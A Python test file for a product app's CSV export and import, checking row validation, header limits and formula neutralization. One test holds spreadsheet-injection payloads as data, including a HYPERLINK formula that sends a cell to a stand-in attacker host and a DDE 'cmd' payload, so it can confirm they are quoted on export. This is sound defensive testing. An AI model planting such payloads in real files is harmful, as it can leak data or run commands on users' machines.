"""Products as CSV (app.products.csv_format, contract 15.3): the export's columns and cells (formulas
neutralized), and the import's rows read back into the create fields, checked with the create rules and
each problem named by its row; a file that cannot be read named as a whole."""

from __future__ import annotations

from datetime import UTC, date, datetime
from decimal import Decimal
from typing import Any

import httpx
import pytest
from fastapi import FastAPI

from app.core.clock import frozen_time
from app.products.csv_format import EXPORT_COLUMNS, CsvProblem, export_lines, neutralized, read_products
from app.products.schemas import ProductOut
from tests.factories.claims import create_claim
from tests.factories.products import create_product
from tests.factories.users import auth_headers, create_user
from tests.helpers import assert_error
from tests.products.support import IMPORT_HEADER, exported_rows, import_csv, listed, product_count

NOW = datetime(2026, 3, 10, 12, 30, tzinfo=UTC)


async def test_an_export_imports_again_unchanged(app: FastAPI, client: httpx.AsyncClient) -> None:
    owner, other = await create_user(app), await create_user(app)
    await create_product(app, owner, name="=SUM(A1:A2)", store='-Discount, "outlet"', serial_number="@1")
    await create_product(app, owner, name="Lamp\nwith a long name", brand="Ikea", category="Home")
    exported = await client.get("/api/products/export.csv", headers=auth_headers(app, owner))

    response = await import_csv(client, auth_headers(app, other), exported.content)

    assert response.status_code == 201, response.text
    fields = (
        "name",
        "brand",
        "category",
        "purchaseDate",
        "warrantyPeriodMonths",
        "store",
        "price",
        "serialNumber",
    )
    original = [{f: p[f] for f in fields} for p in await listed(client, auth_headers(app, owner))]
    imported = [{f: p[f] for f in fields} for p in await listed(client, auth_headers(app, other))]
    assert imported == original
    assert imported[0]["name"] == "=SUM(A1:A2)"  # the export's quote is taken off again


async def test_any_invalid_row_creates_nothing_and_names_each_problem_as_the_api_does(
    app: FastAPI, client: httpx.AsyncClient
) -> None:
    owner = await create_user(app)
    headers = auth_headers(app, owner)
    data = (
        IMPORT_HEADER
        + "Good,Gaggia,Kitchen,2024-01-31,24,,,\r\n"  # row 2
        + "Future,Gaggia,Kitchen,2999-01-01,601,,-1,\r\n"  # row 3
        + ",Gaggia,Kitchen,2024-01-31,twelve,,4.999,\r\n"  # row 4
        + "Good too,Gaggia,Kitchen,2024-02-30,24,,,\r\n"  # row 5
    )

    response = await import_csv(client, headers, data)

    body = assert_error(response, 400, "VALIDATION_FAILED")
    rows = body["details"]["rows"]
    assert set(rows) == {"3", "4", "5"}
    # What POST /api/products answers for the same values.
    same_rules = {
        "3": {"name": "Future", "purchaseDate": "2999-01-01", "warrantyPeriodMonths": 601, "price": -1},
        "4": {"purchaseDate": "2024-01-31", "warrantyPeriodMonths": "twelve", "price": 4.999},
        "5": {"name": "Good too", "purchaseDate": "2024-02-30", "warrantyPeriodMonths": 24},
    }
    for number, values in same_rules.items():
        api = await client.post(
            "/api/products", json={"brand": "Gaggia", "category": "Kitchen", **values}, headers=headers
        )
        assert rows[number] == assert_error(api, 400, "VALIDATION_FAILED")["details"]["fields"], number
    assert set(rows["3"]) == {"purchaseDate", "warrantyPeriodMonths", "price"}
    assert set(rows["4"]) == {"name", "warrantyPeriodMonths", "price"}
    assert await product_count(app) == 0


@pytest.mark.parametrize(
    ("data", "problem"),
    [
        (b"", "is empty: the first row names the columns"),
        (IMPORT_HEADER.encode(), "has no product rows"),
        (b"name,brand,colour\r\nA,B,red\r\n", "has unknown columns: colour"),
        (b"name,brand,name\r\nA,B,C\r\n", "names a column twice: name"),
        ("name\r\nCaf\u00e9\r\n".encode("latin-1"), "is not UTF-8 text"),
        (b'name\r\n"unterminated\r\n', "is not valid CSV"),
    ],
)
async def test_a_file_that_cannot_be_read_is_a_400_on_the_file(
    app: FastAPI, client: httpx.AsyncClient, data: bytes, problem: str
) -> None:
    owner = await create_user(app)
    body = assert_error(await import_csv(client, auth_headers(app, owner), data), 400, "VALIDATION_FAILED")
    assert body["details"]["fields"]["file"].startswith(problem)
    assert await product_count(app) == 0


async def test_a_row_with_more_cells_than_columns_is_named(app: FastAPI, client: httpx.AsyncClient) -> None:
    owner = await create_user(app)
    data = IMPORT_HEADER + "A,B,C,2024-01-01,12,,,,extra\r\n"
    body = assert_error(await import_csv(client, auth_headers(app, owner), data), 400, "VALIDATION_FAILED")
    assert body["details"]["rows"] == {"2": {"row": "has 9 cells; the header names 8 columns"}}


async def test_semicolons_a_byte_order_mark_and_missing_optional_columns_are_read(
    app: FastAPI, client: httpx.AsyncClient
) -> None:
    owner = await create_user(app)
    headers = auth_headers(app, owner)
    data = (
        "\ufeffname;brand;category;purchaseDate;warrantyPeriodMonths\r\nCafé;Ségur;Cuisine;2024-01-01;12\r\n"
    )
    response = await import_csv(client, headers, data.encode())
    assert response.status_code == 201, response.text
    assert [(p["name"], p["brand"]) for p in await listed(client, headers)] == [("Café", "Ségur")]


NO_LENGTH = "Field required (or give warrantyEndsOn)"


@pytest.mark.parametrize(
    ("rows", "problems"),
    [
        (
            "A,B,C,2024-01-01\r\nD,E,F,2024-01-01\r\n",
            {"2": {"warrantyPeriodMonths": NO_LENGTH}, "3": {"warrantyPeriodMonths": NO_LENGTH}},
        ),
        (",B,C,2024-01-01\r\n", {"2": {"name": "Field required", "warrantyPeriodMonths": NO_LENGTH}}),
    ],
    ids=["on-every-row", "with-other-problems"],
)
async def test_a_missing_column_of_a_required_field_is_named_on_every_row_with_its_other_problems(
    app: FastAPI, client: httpx.AsyncClient, rows: str, problems: dict[str, dict[str, str]]
) -> None:
    owner = await create_user(app)
    data = "name,brand,category,purchaseDate\r\n" + rows
    body = assert_error(await import_csv(client, auth_headers(app, owner), data), 400, "VALIDATION_FAILED")
    assert body["details"]["rows"] == problems


async def test_an_end_day_imports_under_the_rules_of_the_api(app: FastAPI, client: httpx.AsyncClient) -> None:
    headers = auth_headers(app, await create_user(app))
    header = "name,brand,category,purchaseDate,warrantyPeriodMonths,warrantyEndsOn\r\n"
    good = "Drill,Makita,Tools,2025-02-10,,2027-06-30\r\n"
    both: dict[str, Any] = {"warrantyPeriodMonths": 12, "warrantyEndsOn": "2027-06-30"}
    bad = {
        "3": ("Both,Makita,Tools,2025-02-10,12,2027-06-30\r\n", both),
        "4": ("Neither,Makita,Tools,2025-02-10,,\r\n", {}),
        "5": ("Early,Makita,Tools,2025-02-10,,2025-01-01\r\n", {"warrantyEndsOn": "2025-01-01"}),
    }

    refused = await import_csv(client, headers, header + good + "".join(line for line, _ in bad.values()))
    created = await import_csv(client, headers, header + good)

    rows = assert_error(refused, 400, "VALIDATION_FAILED")["details"]["rows"]
    assert set(rows) == set(bad)
    for number, (line, values) in bad.items():
        sent = {"name": line.split(",")[0], "brand": "Makita", "category": "Tools"}
        sent["purchaseDate"] = "2025-02-10"
        api = await client.post("/api/products", json=sent | values, headers=headers)
        assert rows[number] == assert_error(api, 400, "VALIDATION_FAILED")["details"]["fields"], number
    assert created.status_code == 201, created.text
    [drill] = await listed(client, headers)
    assert (drill["warrantyPeriodMonths"], drill["warrantyEndsOn"]) == (None, "2027-06-30")
    assert drill["warrantyExpiresAt"] == "2027-06-30T00:00:00+00:00"


@pytest.mark.parametrize("repeats", [30_000, 300_000])
async def test_a_header_of_thousands_of_columns_is_refused_before_any_column_is_read(
    app: FastAPI, client: httpx.AsyncClient, repeats: int
) -> None:
    """A header repeating one column 30,000 times (90 KB) took 9.5 s to refuse, growing with its square
    (300,000 would have taken hours): a header longer than any file can need is refused by its length."""
    owner = await create_user(app)
    data = ",".join(["name"] * repeats) + "\r\nA\r\n"
    body = assert_error(await import_csv(client, auth_headers(app, owner), data), 400, "VALIDATION_FAILED")
    assert body["details"]["fields"] == {"file": f"has {repeats} columns; at most 100 are read"}
    assert await product_count(app) == 0


async def test_columns_named_twice_are_each_named_once(app: FastAPI, client: httpx.AsyncClient) -> None:
    owner = await create_user(app)
    data = ",".join(["brand", "name", "name", "store", "brand", "name", *["price"] * 90]) + "\r\nA\r\n"
    body = assert_error(await import_csv(client, auth_headers(app, owner), data), 400, "VALIDATION_FAILED")
    assert body["details"]["fields"] == {"file": "names a column twice: brand, name, price"}


async def test_unknown_columns_are_named_briefly(app: FastAPI, client: httpx.AsyncClient) -> None:
    """The answer names a few unknown columns, each cut short: a 5 MB header is not echoed back."""
    owner = await create_user(app)
    data = ",".join(["name", "x" * 100_000, *[f"extra{n}" for n in range(50)]]) + "\r\nA\r\n"
    body = assert_error(await import_csv(client, auth_headers(app, owner), data), 400, "VALIDATION_FAILED")
    problem = body["details"]["fields"]["file"]
    assert problem.startswith(f"has unknown columns: {'x' * 40}..., extra0, extra1, ")
    assert "extra8, ... (51 in all; known: name, brand," in problem and len(problem) < 500


async def test_the_export_has_a_header_and_every_field_of_each_product(
    app: FastAPI, client: httpx.AsyncClient
) -> None:
    owner = await create_user(app)
    headers = auth_headers(app, owner)  # tokens are checked against the real clock too
    with frozen_time(NOW):
        product = await create_product(
            app, owner, name="Espresso machine, \"deluxe\"\nsecond line", brand="Gaggia",
            category="Küche", purchase_date=date(2024, 1, 31), warranty_period_months=25,
            price=Decimal("499.9"), store="Coffee & Co", serial_number="SN-1",
        )  # fmt: skip
        plain = await create_product(app, owner, name="Kettle", purchase_date=date(2025, 1, 1))
        await create_claim(app, plain)
        response = await client.get("/api/products/export.csv", headers=headers)

    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert response.headers["content-disposition"] == 'attachment; filename="products.csv"'
    assert response.content.startswith(b"id,name,")  # UTF-8 without a byte-order mark
    rows = exported_rows(response)
    assert [row["id"] for row in rows] == [str(plain.id), str(product.id)]  # newest first, as the list
    assert rows[1] == {
        "id": str(product.id),
        "name": 'Espresso machine, "deluxe"\nsecond line',
        "brand": "Gaggia",
        "category": "Küche",
        "purchaseDate": "2024-01-31",
        "warrantyPeriodMonths": "25",
        "warrantyEndsOn": "",
        "warrantyExpiresAt": "2026-02-28",
        "warrantyStatus": "expired",
        "store": "Coffee & Co",
        "price": "499.90",
        "serialNumber": "SN-1",
        "hasActiveClaim": "false",
        "createdAt": "2026-03-10T12:30:00+00:00",
        "updatedAt": "2026-03-10T12:30:00+00:00",
    }
    assert rows[0]["hasActiveClaim"] == "true"
    assert rows[0]["store"] == rows[0]["price"] == rows[0]["serialNumber"] == ""


async def test_cells_a_spreadsheet_would_run_as_formulas_are_neutralized(
    app: FastAPI, client: httpx.AsyncClient
) -> None:
    owner = await create_user(app)
    names = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+1", "-2+3", "@SUM(A1:A2)", "\tx", "\rx"]
    for name in names:
        await create_product(app, owner, name=name, brand="=cmd|' /C calc'!A0", serial_number="-1")
    await create_product(app, owner, name="Plain = fine", brand="Brand+", serial_number="1-2")

    rows = exported_rows(
        await client.get(
            "/api/products/export.csv?sort=createdAt&order=asc", headers=auth_headers(app, owner)
        )
    )

    assert [row["name"] for row in rows] == [*("'" + name for name in names), "Plain = fine"]
    assert {row["brand"] for row in rows[:-1]} == {"'=cmd|' /C calc'!A0"}
    assert {row["serialNumber"] for row in rows[:-1]} == {"'-1"}
    assert (rows[-1]["brand"], rows[-1]["serialNumber"]) == ("Brand+", "1-2")


def _product(**fields: Any) -> ProductOut:
    values: dict[str, Any] = {
        "id": 3,
        "name": "Kettle",
        "brand": "Bosch",
        "category": "Kitchen",
        "store": None,
        "purchase_date": date(2024, 1, 31),
        "warranty_period_months": None,
        "warranty_ends_on": date(2026, 2, 28),
        "price": Decimal("5"),
        "serial_number": "-1",
        "warranty_status": "void",
        "warranty_expires_at": date(2026, 2, 28),
        "warranty_voided_at": NOW,
        "warranty_void_reason": "Opened",
        "has_active_claim": True,
        "created_at": NOW,
        "updated_at": NOW,
        "household_id": 4,
        "owner": {"id": 7, "name": "Ann"},
    }
    return ProductOut.model_validate(values | fields)


def test_the_export_writes_each_column_as_text_a_spreadsheet_reads_back() -> None:
    assert export_lines([], header=True) == (",".join(EXPORT_COLUMNS) + "\r\n").encode()
    assert export_lines([], header=False) == b""
    line = export_lines([_product(name='Kettle, "big"')], header=False).decode()
    assert line == (
        '3,"Kettle, ""big""",Bosch,Kitchen,2024-01-31,,2026-02-28,2026-02-28,void,,5.00,\'-1,true,'
        "2026-03-10T12:30:00+00:00,2026-03-10T12:30:00+00:00\r\n"
    )


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"])
def test_a_cell_a_spreadsheet_would_run_is_quoted_and_read_back_as_it_was(text: str) -> None:
    assert neutralized(text) == "'" + text
    data = f'name,brand,category,purchaseDate,warrantyPeriodMonths\r\n"\'{text}",B,C,2024-01-01,1\r\n'
    [fields], problems = read_products(data.encode(), max_rows=10)
    assert problems == {} and fields["name"] == text.strip()  # the create schema trims
    assert neutralized("a=1") == "a=1" and neutralized("'=1") == "'=1"


def test_the_rows_are_read_into_the_create_fields_and_each_problem_named_by_its_row() -> None:
    data = (
        "\ufeffname;brand;category;purchaseDate;warrantyPeriodMonths;price;serialNumber;warrantyStatus\r\n"
        "Kettle;Bosch;Kitchen;2024-01-31;12;9.5;;void\r\n"  # the export's own columns are skipped
        "\r\n"
        ";Bosch;Kitchen;2024-01-31;twelve;;;\r\n"
    )
    valid, problems = read_products(data.encode(), max_rows=2)
    assert valid == [
        {
            "name": "Kettle",
            "brand": "Bosch",
            "category": "Kitchen",
            "purchase_date": date(2024, 1, 31),
            "warranty_period_months": 12,
            "warranty_ends_on": None,
            "store": None,
            "price": Decimal("9.50"),
            "serial_number": None,
            "household_id": None,  # imported products are the importer's own, unshared
        }
    ]
    assert set(problems) == {"4"} and set(problems["4"]) == {"name", "warrantyPeriodMonths"}
    with pytest.raises(CsvProblem, match="has more than 1 rows"):
        read_products(data.encode(), max_rows=1)
    with pytest.raises(CsvProblem, match="has unknown columns: householdId"):  # an import shares nothing
        read_products(b"name,householdId\r\nKettle,3\r\n", max_rows=2)
